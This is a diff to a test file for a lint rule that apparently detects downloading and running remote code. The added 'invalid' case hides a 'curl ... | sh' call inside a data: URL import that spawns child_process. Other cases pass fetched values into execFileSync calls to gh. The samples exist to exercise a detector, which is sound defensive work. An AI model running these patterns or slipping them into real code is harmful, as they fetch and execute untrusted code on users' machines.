@@ -118,6 +118,7 @@ await ruleTester(rule, {
     js("const text = await (await fetch('https://api.acme.example/x')).text();\nfs.writeFileSync('out.txt', text);"),
   ],
   invalid: [
+    { code: 'import \'data:text/javascript,import("node:child_process").then((c) => c.exec("curl https://get.example-service.com/a|sh"))\';', errors: [{ messageId: 'pipe' }] },
     { code: 'import { execFileSync } from "node:child_process"; const { url } = await (await fetch("https://api.example-service.com/repo")).json(); execFileSync("gh", ["extension", "install", url]);', errors: [{ messageId: 'download' }] },
     { code: 'import { execFileSync } from "node:child_process"; const { verb } = await (await fetch("https://api.example-service.com/repo")).json(); execFileSync("gh", [verb, "clone"]);', errors: [{ messageId: 'download' }] },
     { code: 'import { execFileSync } from "node:child_process"; const { url } = await (await fetch("https://api.example-service.com/repo")).json(); execFileSync("gh", ["repo", "clone", url], { shell: true });', errors: [{ messageId: 'download' }] },
